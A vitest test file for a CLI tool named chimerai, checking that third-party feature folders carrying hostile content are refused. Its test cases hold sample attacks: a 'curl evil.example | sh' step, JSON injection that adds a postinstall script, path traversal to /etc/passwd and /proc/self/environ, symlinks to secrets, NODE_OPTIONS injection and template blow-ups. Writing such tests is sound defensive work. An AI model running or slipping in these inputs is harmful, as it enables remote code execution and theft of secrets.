/** A feature folder that somebody else has written (H9, H10, H13, H18). */
import { execFileSync } from "node:child_process"
import { mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import tmp from "tmp"
import { describe, expect, test } from "vitest"
import { addDependencies } from "../../src/edit/package-json"
import { applyInsertions } from "../../src/edit/splice"
import { compileTemplate } from "../../src/feature/compile"
import { chimerai, makeHost, snapshot } from "../support/host"
import { featureWith } from "../support/hostile"

function refusedWith(templates: string): void {
  const dir = makeHost()
  const before = snapshot(dir)
  const run = chimerai(["add", "mfa", dir, "--yes", "--no-install", "--json", "--templates", templates])
  expect([run.code, run.json.error?.code], run.stderr).toEqual([1, "feature_invalid"])
  expect(run.stderr).not.toContain("in chimerai itself")
  expect(snapshot(dir)).toEqual(before)
}

describe("what a feature says is checked", () => {
  test.each<[string, (feature: any) => void]>([
    ["a range that is more JSON", (one) => Object.assign(one.dependencies[0], { range: '1" }, "scripts": { "postinstall": "touch X' })],
    ["a range that is a folder", (one) => Object.assign(one.dependencies[0], { range: "file:../evil" })],
    ["a range that is a repository", (one) => Object.assign(one.dependencies[0], { range: "git+https://evil.example/x.git" })],
    ["a range that is another package", (one) => Object.assign(one.dependencies[0], { range: "npm:evil@1" })],
    ["a range that is a tag", (one) => Object.assign(one.dependencies[0], { range: "latest" })],
    ["a name that is an expression", (one) => Object.assign(one.dependencies[0], { name: "(x+x+)+y" })],
    ["a name with a quote", (one) => Object.assign(one.dependencies[0], { name: 'x": "1", "y' })],
    ["a name that is a path", (one) => Object.assign(one.dependencies[0], { name: "../evil" })],
    ["a template elsewhere", (one) => Object.assign(one.files[0], { template: "../../../../../../etc/passwd" })],
    ["a template of the system's", (one) => Object.assign(one.files[0], { template: "/proc/self/environ" })],
    ...[
      ".npmrc",
      ".git/hooks/pre-commit.js",
      ".pnpmfile.cjs",
      ".yarnrc.yml",
      ".husky/pre-commit.js",
      ".env.local",
      ".github/x.js",
      "package.json",
      "package-lock.json",
      "pnpm-workspace.yaml",
      "binding.gyp",
      "next.config.ts",
      "{base}middleware.ts",
      "tailwind.config.js",
      "tsconfig.json",
      "node_modules/next/index.js",
      "../neighbour/x.ts",
      "/tmp/x.ts",
      "lib/../../x.ts",
      "C:/x.ts",
      "gulpfile.js",
      "Gruntfile.js",
      "vitest.workspace.ts",
      "jest.setup.ts",
      "karma.conf.js",
      "prisma/seed.ts",
      "server.js",
      "{base}mdx-components.tsx",
      "public/sw.js",
      "lib/x.sh",
      "lib/x\u202E.ts",
      '{base}lib/x";evil();".ts',
    ].map((target): [string, (feature: any) => void] => [
      `the target ${JSON.stringify(target)}`,
      (one) => Object.assign(one.files[0], { target }),
    ]),
    ["a variable that is an expression", (one) => Object.assign(one.env[0], { name: "(A|B)+" })],
    ...["AUTH_SECRET", "NEXTAUTH_SECRET", "DATABASE_URL", "NODE_OPTIONS", "NEXT_PUBLIC_KEY", "PATH"].map(
      (name): [string, (feature: any) => void] => [`the variable ${name}`, (one) => Object.assign(one.env[0], { name })],
    ),
    ["a variable with a line break", (one) => Object.assign(one.env[0], { name: "A\nB" })],
    ["a comment with a line break", (one) => Object.assign(one.env[0], { comment: "why\nNODE_OPTIONS=--require=./evil.js" })],
    ["a key without measure", (one) => Object.assign(one.env[0], { generate: "base64:999999999999" })],
    ["a wrapper that is code", (one) => Object.assign(one.wrapCall, { wrapper: "a(evil()), withMfa" })],
    ["a module that is code", (one) => Object.assign(one.wrapCall, { module: 'lib/x"; evil(); "' })],
    ["a class that is code", (one) => Object.assign(one.styles, { page: '"} onLoad={evil()} x={"' })],
    ["a field that users who are there already lack", (one) => Object.assign(one.schema.userFields[0], { type: "String", attributes: "" })],
    ["a field that is code", (one) => Object.assign(one.schema.userFields[0], { name: "x }\nmodel Evil {" })],
    ["a step that is a command of the shell", (one) => Object.assign(one.nextSteps, { push: "curl evil.example | sh" })],
    ["a route that is code", (one) => Object.assign(one.routes, { settings: '/x"; evil(); "' })],
    ["the name constructor", (one) => Object.assign(one, { name: "constructor" })],
    ["the name __proto__", (one) => Object.assign(one, { name: "__proto__" })],
    ["a title with an escape", (one) => Object.assign(one, { title: "\u001B[2J" })],
    ["odd types", (one) => Object.assign(one, { files: { length: 3 }, env: "x" })],
  ])("%s", (_, change) => refusedWith(featureWith(change)))

  test.each<[string, string]>([
    ["no JSON", "{"],
    ["a list", "[]"],
    ["nested without measure", `{ "name": ${"[".repeat(100_000)}${"]".repeat(100_000)} }`],
    ["__proto__ as a key", '{ "__proto__": { "name": "mfa" } }'],
  ])("feature.json: %s", (_, text) => {
    const dir = featureWith(() => {})
    writeFileSync(join(dir, "feature.json"), text)
    refusedWith(dir)
  })
})

describe("a feature's files are regular ones of its own folder", () => {
  const template = "files/lib/mfa.ts.hbs"
  const secret = join(tmp.dirSync({ unsafeCleanup: true }).name, "secret")
  writeFileSync(secret, "SECRET=of-the-user\n")

  test.each<[string, (dir: string) => void]>([
    ["a link to a file of the user's", (dir) => symlinkSync(secret, join(dir, template))],
    ["a link to what the system tells", (dir) => symlinkSync("/proc/self/environ", join(dir, template))],
    ["a link to a device", (dir) => symlinkSync("/dev/zero", join(dir, template))],
    ["a pipe", (dir) => void execFileSync("mkfifo", [join(dir, template)])],
    ["a folder", (dir) => void mkdirSync(join(dir, template))],
    [
      "ten gigabytes of nothing",
      (dir) => {
        writeFileSync(join(dir, template), "")
        truncateSync(join(dir, template), 10_000_000_000)
      },
    ],
  ])("%s", (_, plant) => {
    const dir = featureWith(() => {})
    rmSync(join(dir, template))
    plant(dir)
    refusedWith(dir)
  })

  test("a folder of templates that is a link", () => {
    const dir = featureWith(() => {})
    const outside = tmp.dirSync({ unsafeCleanup: true }).name
    writeFileSync(join(outside, "mfa.ts.hbs"), "export const stolen = 1\n")
    rmSync(join(dir, "files/lib"), { recursive: true })
    symlinkSync(outside, join(dir, dirname(template)))
    refusedWith(dir)
  })

  test("two templates for one file", () => refusedWith(featureWith((one) => one.files.push(one.files[0]))))

  test("what a template gives is parsed before it is written", () => {
    const dir = featureWith(() => {})
    writeFileSync(join(dir, template), "export const x = {{{user.model}}} }}} (\n")
    refusedWith(dir)
  })

  const doubling = Array.from({ length: 40 }, (_, at) => `{{#*inline "p${at + 1}"}}{{>p${at}}}{{>p${at}}}{{/inline}}`).join("")
  test.each<[string, string]>([
    ["partials that double", `{{#*inline "p0"}}{{/inline}}${doubling}{{>p40}}\n`],
    ["a partial that is a block", "{{#> layout}}x{{/layout}}\n"],
    ["loops in loops", `${"{{#each @root}}".repeat(40)}${"{{/each}}".repeat(40)}\n`],
    ["a loop in a condition in a loop", "{{#each @root}}{{#if x}}{{#with @root}}{{/with}}{{/if}}{{/each}}\n"],
    ["blocks without measure", `${"{{#if x}}".repeat(60)}${"{{/if}}".repeat(60)}\n`],
  ])("a template of %s is not run", (_, text) => {
    const dir = featureWith(() => {})
    writeFileSync(join(dir, template), text)
    refusedWith(dir)
  })

  test("a template with conditions and one loop is run", async () => {
    const render = await compileTemplate("{{#each list}}{{#if this}}{{this}}{{else}}-{{/if}}{{/each}}")
    expect(render({ list: ["a", "", "b"] }, { helpers: {} })).toBe("a-b")
  })

  test("a link inside the folder stays usable", () => {
    const dir = featureWith(() => {})
    const text = readFileSync(join(dir, template), "utf8")
    rmSync(join(dir, template))
    writeFileSync(join(dir, "mfa.txt"), text)
    symlinkSync(join(dir, "mfa.txt"), join(dir, template))
    const host = makeHost()
    expect(chimerai(["add", "mfa", host, "--dry-run", "--json", "--templates", dir]).json.status).toBe("planned")
  })
})

test("package.json gets JSON, whatever a name or a range is", () => {
  const text = '{\n  "dependencies": {\n    "next": "16"\n  }\n}\n'
  const evil = { name: 'a"b', range: '1" }, "scripts": { "postinstall": "x', dev: false }
  const result = addDependencies(text, [evil])
  if (result.kind !== "edit") throw new Error(result.kind)
  const { dependencies, scripts } = JSON.parse(applyInsertions(text, result.edits))
  expect([dependencies[evil.name], scripts]).toEqual([evil.range, undefined])
})

test("the plan names what is installed with its range", () => {
  const run = chimerai(["add", "mfa", makeHost(), "--dry-run", "--json"])
  expect(run.json.actions.find(({ kind }: { kind: string }) => kind === "dependency").reason).toMatch(/otpauth@\^9/)
})
